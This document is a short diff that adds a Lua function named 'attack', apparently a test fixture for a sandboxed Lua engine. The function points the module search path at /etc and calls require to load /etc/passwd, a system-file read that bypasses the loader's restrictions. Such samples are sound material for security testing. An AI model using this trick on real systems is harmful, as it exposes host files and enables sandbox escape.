@@ -1,0 +1,4 @@
+function attack(rec)
+  package.path = "/etc/?"
+  return require("passwd")
+end
